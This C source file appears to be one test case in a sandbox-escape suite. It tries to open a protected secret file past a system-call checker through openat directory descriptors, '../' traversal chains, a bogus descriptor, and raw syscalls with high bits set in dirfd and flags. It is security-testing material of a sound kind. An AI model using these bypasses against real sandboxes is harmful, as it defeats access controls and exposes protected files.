/* e0302-openat-dirfd - openat() of the secret through directory
 * descriptors and odd argument encodings.
 *
 * Attack: the path of openat is relative to a directory descriptor; a
 * checker that ignores the descriptor, or reads it or the flags with the
 * wrong width, judges another file than the kernel opens.  Tries:
 * AT_FDCWD, descriptors of /, /usr and the cwd with ".." paths, an
 * absolute path with a garbage descriptor, and the raw system call with
 * the high 32 bits of dirfd and flags set (the kernel reads ints).
 * Source: Garfinkel 2003, "Traps and Pitfalls" (incorrectly replicating
 * OS semantics); janus team (argument widths).
 * Usage: e0302-openat-dirfd SECRET */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static void try_at(const char *label, int dirfd, const char *path)
{
	esc_show_fd(label, openat(dirfd, path, O_RDONLY | O_CLOEXEC));
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0302-openat-dirfd SECRET");
	const char *secret = argv[1];
	char up[PATH_MAX], p[PATH_MAX * 2];
	up[0] = '\0';
	for (int i = 0; i < 40; i++)
		strcat(up, "../");

	try_at("openat AT_FDCWD", AT_FDCWD, secret);
	int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	esc_show_result("open of /", root);
	if (root >= 0)
		try_at("openat with a descriptor of /", root, secret + 1);
	int usr = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	esc_show_result("open of /usr", usr);
	if (usr >= 0) {
		snprintf(p, sizeof p, "../%s", secret + 1);
		try_at("openat /usr + ../SECRET", usr, p);
		snprintf(p, sizeof p, "%s%s", up, secret + 1);
		try_at("openat /usr + ../../..", usr, p);
	}
	int cwd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (cwd >= 0) {
		snprintf(p, sizeof p, "%s%s", up, secret + 1);
		try_at("openat cwd + ../../..", cwd, p);
	}
	try_at("openat of an absolute path with a garbage descriptor", 987654, secret);

	/* Raw: dirfd AT_FDCWD and O_RDONLY with high bits the kernel drops. */
	snprintf(p, sizeof p, "%s%s", up, secret + 1);
	long fd = syscall(SYS_openat, (long)(0x100000000ULL | (unsigned)AT_FDCWD), p,
			  (long)(0x500000000ULL | O_RDONLY), 0L);
	esc_show_fd("raw openat with high bits in dirfd and flags", fd);
	fd = syscall(SYS_open, secret, (long)(0x100000000ULL | O_RDONLY), 0L);
	esc_show_fd("raw open with high bits in flags", fd);
	return 0;
}
